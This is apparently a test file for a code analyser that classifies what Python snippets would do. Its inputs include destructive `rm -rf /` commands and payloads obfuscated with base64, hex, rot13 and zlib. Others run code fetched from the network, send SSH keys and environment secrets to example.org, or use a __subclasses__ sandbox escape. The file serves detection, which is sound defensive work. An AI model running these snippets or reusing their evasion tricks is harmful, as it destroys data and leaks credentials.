/** What Python code would do, whatever it is written like, and that harmless code does nothing. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync } from "node:zlib";
import { around, deedsOf, outputOf, unreadOf } from "../../../../../test/lib/code-deeds.ts";
import { literal } from "../../../shell/value.ts";
import { readCode } from "../code.ts";

const does = (what: string, code: string, ...wanted: readonly string[]) =>
  test(`${what}: ${code.split("\n")[0]?.slice(0, 60)}`, () => {
    assert.deepEqual(deedsOf("python", code), wanted);
  });

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const evil = 'import os; os.system("rm -rf /")';

// Commands, however they are reached.
does("a command for the shell", 'import os; os.system("rm -rf /")', "shell rm -rf /");
does("a library under another name", 'import os as o; o.system("id")', "shell id");
does("a function under another name", 'from os import system as s\ns("id")', "shell id");
does("every name of a library", 'from os import *\nsystem("id")', "shell id");
does("a function in a variable", 'import os; s = os.system; s("id")', "shell id");
does("a function handed to a function", '(lambda f: f("id"))(__import__("os").system)', "shell id");
does("names put together", 'getattr(__import__("o" + "s"), "sys" + "tem")("id")', "shell id");
does("names backwards", 'getattr(__import__("os"), "metsys"[::-1])("id")', "shell id");
does("a dunder instead of getattr", '__import__("os").__getattribute__("sys"+"tem")("id")', "shell id");
does("builtins by name", '__builtins__["__import__"]("os").system("id")', "shell id");
does("globals by name", 'import os; globals()["os"].system("id")', "shell id");
does("modules by name", 'import sys, os; sys.modules["os"].system("id")', "shell id");
does("importlib", 'import importlib; importlib.import_module("os").system("id")', "shell id");
does("letters from numbers", 'import os; os.system("".join(chr(c) for c in [105, 100]))', "shell id");
does("letters by map", 'import os; os.system("".join(map(chr, [105, 100])))', "shell id");
does("a format", 'import os; os.system("{} -rf {}".format("rm", "/"))', "shell rm -rf /");
does("an f-string", 'import os; d = "/x"; os.system(f"rm -rf {d}")', "shell rm -rf /x");
does("a percent sign", 'import os; os.system("rm %s %s" % ("-rf", "/"))', "shell rm -rf /");
does("a replacement", 'import os; os.system("rZ -rf /".replace("Z", "m"))', "shell rm -rf /");
does("a list with append", 'import os; c = []; c.append("rm"); c.append("-rf /"); os.system(" ".join(c))', "shell rm -rf /");
does("text that grows", 'import os\nc = "rm"\nc += " -rf /"\nos.system(c)', "shell rm -rf /");
does("words", 'import subprocess; subprocess.run(["rm", "-rf", "/x"])', "run rm -rf /x");
does("words with shell", 'import subprocess; subprocess.run("rm -rf /x", shell=True)', "shell rm -rf /x");
does("a process that is replaced", 'import os; os.execvp("rm", ["rm", "-rf", "/x"])', "run rm -rf /x");
does("a list of words with more of them", 'import subprocess; subprocess.run(["rm", *["-rf", "/x"]])', "run rm -rf /x");
does("arguments of the program", "import os, sys; os.remove(sys.argv[1])", "delete first");
does("variables of the environment", 'import os; os.remove(os.environ["HOME"] + "/x")', "delete /home/dev/x");
does("an unknown argument keeps its certain start", 'import os; os.system("rm -rf " + unknown())', "shell rm -rf ?");

// Code that hides code.
does("exec", `exec(${JSON.stringify(evil)})`, "shell rm -rf /");
does("eval", "eval(\"__import__('os').system('id')\")", "shell id");
does("compile", 'exec(compile("import os; os.system(\'id\')", "x", "exec"))', "shell id");
does("base64", `import base64; exec(base64.b64decode("${base64(evil)}"))`, "shell rm -rf /");
does("hex", `exec(bytes.fromhex("${Buffer.from(evil).toString("hex")}").decode())`, "shell rm -rf /");
does("rot13", 'import codecs; exec(codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "rot13"))', "shell id");
does(
  "zlib in base64",
  `import zlib, base64; exec(zlib.decompress(base64.b64decode("${deflateSync(evil).toString("base64")}")))`,
  "shell rm -rf /",
);
does("layers", `exec("import base64; exec(base64.b64decode('${base64(evil)}'))")`, "shell rm -rf /");
does(
  "what comes from the network",
  'import urllib.request as u; exec(u.urlopen("http://example.org/x").read())',
  "GET http://example.org/x",
  "code ? from the network",
);
does(
  "what comes by requests",
  'import requests; exec(requests.get("http://example.org/x").text)',
  "GET http://example.org/x",
  "code ? from the network",
);
does(
  "what comes in and goes to the shell",
  'import os, requests; os.system(requests.get("http://example.org/x").text)',
  "GET http://example.org/x",
  "shell ? from the network",
);

test("what arrives on standard input is read on when it is known", () => {
  assert.deepEqual(deedsOf("python", "exec(input())", { stdin: { from: "call", text: evil } }), ["shell rm -rf /"]);
  assert.deepEqual(deedsOf("python", "import sys; exec(sys.stdin.read())", { stdin: { from: "download" } }), ["code ? from the network"]);
});

// Files.
does("a file that is taken away", 'import os; os.remove("/x")', "delete /x");
does("a tree", 'import shutil; shutil.rmtree("/x")', "delete /x (whole)");
does("pathlib", 'from pathlib import Path; (Path.home() / "x").unlink()', "delete /home/dev/x");
does("all of a pattern", 'from pathlib import Path\nfor p in Path("/d").glob("*.txt"): p.unlink()', "perhaps delete /d/*.txt (glob)");
does("all of a folder", 'import os\nfor f in os.listdir("/d"): os.remove(os.path.join("/d", f))', "perhaps delete /d/?");
does("all below a folder", 'import os\nfor r, d, fs in os.walk("/w"):\n  for f in fs: os.remove(os.path.join(r, f))', "perhaps delete /w?");
does("the home", 'import os, shutil; shutil.rmtree(os.path.expanduser("~"))', "delete /home/dev (whole)");
does("a file made empty", 'open("/x", "w")', "overwrite /x");
does("a file that is written", 'with open("/x", "a") as f: f.write("hi")', "write /x", "write /x");
does(
  "a file with what was fetched",
  'import requests; open("x.sh", "w").write(requests.get("http://example.org").text)',
  "overwrite x.sh",
  "GET http://example.org",
  "write x.sh from the network",
);
does("a move", 'import shutil; shutil.move("/a", "/b")', "move /a /b");
does("rights", 'import os; os.chmod("/x", 0o777)', "chmod 777 /x");
does("a signal", "import os, signal; os.kill(1, signal.SIGKILL)", "kill 1");
does("a link", 'import os; os.symlink("/a", "/b")', "link /a /b");

// Flows.
does(
  "a file to the network",
  'import requests; requests.post("http://example.org", data=open("notes.txt").read())',
  "read notes.txt",
  "POST http://example.org carrying file",
);
does(
  "a secret file",
  'import requests; requests.post("http://example.org", data=open("/home/dev/.ssh/id_rsa").read())',
  "read /home/dev/.ssh/id_rsa",
  "POST http://example.org carrying secret",
);
does(
  "the environment",
  'import os, requests; requests.post("http://example.org", json=dict(os.environ))',
  "POST http://example.org carrying secret",
);
does(
  "a secret in an address",
  'import os, requests; requests.get("http://example.org/?" + os.environ["API_TOKEN"])',
  "GET http://example.org/?? carrying secret",
);
does("a connection", 'import socket; s = socket.socket(); s.connect(("example.org", 4444))', "CONNECT example.org:4444");

// Structure.
does("a function of its own", "import os\ndef clean(p):\n  os.remove(p)\nclean('/x')", "delete /x");
does("a function that nobody calls", "import os\ndef clean():\n  os.remove('/x')");
does(
  "a function that somebody else calls",
  "import os, threading\ndef f(): os.remove('/x')\nthreading.Thread(target=f).start()",
  "perhaps delete /x",
);
does("a decorated function", "import os\n@app.route('/')\ndef f(): os.remove('/x')", "perhaps delete /x");
does("a class", "import os\nclass A:\n  def __init__(self, p): self.p = p\n  def go(self): os.remove(self.p)\nA('/x').go()", "delete /x");
does("both branches", "import os\nif x: p = '/a'\nelse: p = '/b'\nos.remove(p)", "delete /?");
does("a branch that is not taken", 'import os\nif False: os.remove("/x")\nif __name__ == "__main__": os.remove("/y")', "delete /y");
does(
  "either of two functions",
  "import os, shutil\nf = os.remove if x else shutil.rmtree\nf('/x')",
  "perhaps delete /x",
  "perhaps delete /x (whole)",
);
does("a list that a branch changed is not known", 'import os\nc = ["ls"]\nif x: c.append("; rm -rf /")\nos.system("".join(c))', "shell ?");
does(
  "what a loop leaves for its next round",
  'import os\nc = "ls"\nwhile x():\n  os.system(c)\n  c = "rm -rf /"',
  "perhaps shell ls",
  "perhaps shell ?",
);
does("try and except", 'import os\ntry:\n  os.remove("/a")\nexcept OSError:\n  os.remove("/b")', "delete /a", "perhaps delete /b");
does("partial", 'import functools, os; functools.partial(os.system, "id")()', "shell id");
does("a database", 'import sqlite3; sqlite3.connect("x").cursor().execute("DROP TABLE a")', "data DROP TABLE a");
does("an unknown database", 'def f(conn): conn.execute("DELETE FROM a")\nf(connect())', "data DELETE FROM a");
does("another file", 'import runpy; runpy.run_path("other.py")', "run file other.py");

test("the line of a deed is where it stands, also out of an executed text", () => {
  const code = 'import os\n\nos.remove("/x")\nexec("\\n\\nos.remove(\'/y\')")';
  assert.deepEqual(
    readCode("python", code, around).deeds.map((deed) => deed.line),
    [3, 4],
  );
});

// Harmless.
const harmless = (code: string) =>
  test(`nothing is done, and nothing is unread: ${code.split("\n")[0]?.slice(0, 60)}`, () => {
    assert.deepEqual([deedsOf("python", code), unreadOf("python", code)], [[], []]);
  });

harmless("print('rm -rf /')");
harmless("x = \"os.system('rm -rf /')\"; print(len(x))");
harmless("import json, sys; d = json.load(sys.stdin); print(d['a']['b'])");
harmless("print(sum(int(x) for x in input().split()))");
harmless("import re, sys\nfor line in sys.stdin:\n  if re.search('rm -rf', line): print(line)");
harmless("import this, numpy as np; print(np.zeros((3, 3)).sum())");
harmless("for i in range(1000000): x = i * 2\nfor i in range(300):\n  for j in range(300): x += j");
harmless("def fib(n): return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(30))");
harmless("import secrets; print(secrets.token_hex(16))");
harmless("assert 'DROP TABLE x' in logs; raise SystemExit('rm -rf failed')");
harmless("import logging; logging.info('shutil.rmtree(%s)', '/')");
harmless("match x:\n  case {'a': 1}: print(1)\n  case _: pass");
harmless("async def main():\n  async with a() as b:\n    async for c in b: print(c)\nprint('x')");
harmless("# os.system('rm -rf /')\nprint(1)");

test("a program without rules of its own is not unread", () => {
  assert.deepEqual(unreadOf("python", "import mylib; mylib.run(mylib.load('x')); print(getattr(mylib, name)())"), []);
});

// Unread.
const unread = (code: string, what: RegExp) =>
  test(`said to be unread: ${code.slice(0, 60)}`, () => assert.match(unreadOf("python", code).join(), what));

unread("import os; getattr(os, unknown)('x')", /a function of `os`/);
unread("().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('id')", /chosen at run time/);
unread("x = = (", /syntax/);
unread(`${"(".repeat(5000)}`, /too long or too deep/);
unread(
  Array.from({ length: 30 }, (_, at) => `def f${at}(): f${at + 1}()`)
    .join("\n")
    .concat("\nf0()"),
  /functions inside functions/,
);

// Output.
test("what is printed is known where all of it is", () => {
  assert.equal(outputOf("python", 'print("rm", "-rf", "/")'), "rm -rf /\n");
  assert.equal(outputOf("python", 'print("%s-%d" % ("a", 3), end="")'), "a-3");
  assert.equal(outputOf("python", 'import base64; print(base64.b64decode("cm0=").decode())'), "rm\n");
  assert.equal(outputOf("python", 'print("a")\nif x: print("b")'), undefined);
  assert.equal(outputOf("python", 'import os; print("a"); os.system("ls")'), undefined);
  assert.equal(outputOf("python", 'import mylib; print("a"); mylib.go()'), undefined);
});

test("what is fetched and printed is known to be fetched", () => {
  const code = 'import requests; print(requests.get("http://example.org/x").text)';
  assert.equal(readCode("python", code, around).output?.from, "download");
});

test("the file that code stands in is known by its name", () => {
  assert.deepEqual(
    deedsOf("python", "import os; os.remove(__file__); os.remove(os.path.join(os.path.dirname(__file__), 'x'))", {
      ...around,
      script: literal("/p/a.py"),
    }),
    ["delete /p/a.py", "delete /p/x"],
  );
});

// What a reading takes for known must be what would be there: each of these once hid a command behind a harmless text.
const hidden = (what: string, code: string, ...never: readonly string[]) =>
  test(`${what} does not make a text known that it is not`, () => {
    const deeds = deedsOf("python", `import os\n${code}`);
    assert.ok(deeds.length > 0);
    for (const deed of ["shell ls", "perhaps shell ls", ...never]) assert.ok(!deeds.includes(deed), deeds.join("; "));
  });

hidden("a variable of a function that has the same name", 'x = "rm -rf /"\ndef f():\n  x = "ls"\nf()\nos.system(x)');
hidden("a second name for a list", 'a = b = ["ls"]\nb[0] = "rm -rf /"\nos.system(a[0])');
hidden("a round that ends early", 'x = "rm -rf /"\nfor i in [1]:\n  continue\n  x = "ls"\nos.system(x)');
hidden("a loop that may end early", 'x = "rm -rf /"\nfor i in [1, 2]:\n  if y(): break\n  x = "ls"\nos.system(x)');
hidden("a return that may come before", 'x = "rm -rf /"\ndef f():\n  global x\n  if y(): return\n  x = "ls"\nf()\nos.system(x)');
hidden("what stops in the middle", 'x = "ls"\ntry:\n  x = "rm -rf /"\n  y()\n  x = "ls"\nexcept Exception: pass\nos.system(x)');
hidden(
  "a list that stops in the middle",
  'c = ["ls"]\ntry:\n  c[0] = "rm -rf /"\n  y()\n  c[0] = "ls"\nexcept Exception: pass\nos.system(c[0])',
);
hidden("a list that a branch changed", 'c = ["rm -rf /"]\nif y(): c[0] = "ls"\nos.system(c[0])');
hidden("a table with an unknown name", 'd = {"a": "ls"}\nd[y()] = "rm -rf /"\nos.system(d["a"])');
hidden("a table that somebody else was given", 'd = {"a": "ls"}\nupdate(d)\nos.system(d["a"])');
hidden("a variable by its name", 'c = "ls"\nglobals()["c"] = "rm -rf /"\nos.system(c)');
hidden("what is executed inside of a function", 'c = "rm -rf /"\ndef f(): exec("c = \'ls\'")\nf()\nos.system(c)');

test("a variable that a function shares is set by it", () => {
  assert.deepEqual(deedsOf("python", 'import os\nx = "ls"\ndef f():\n  global x\n  x = "rm -rf /"\nf()\nos.system(x)'), ["shell rm -rf /"]);
  assert.deepEqual(deedsOf("python", 'import os; vars(os)["system"]("id"); os.__dict__["system"]("id")'), ["shell id"]);
});

hidden(
  "several returns that may come before",
  'x = "ls"\ndef f():\n  global x\n  if y(): return\n  x = "rm -rf /"\n  if z(): return\n  x = "ls"\nf()\nos.system(x)',
);

test("what stands behind a return that may come is followed, and only perhaps happens", () => {
  assert.deepEqual(deedsOf("python", 'import os\ndef f(p):\n  if not p: return\n  q = p + "/x"\n  os.remove(q)\nf(y())\nf("/a")'), [
    "perhaps delete ?",
    "delete /a/x",
  ]);
});
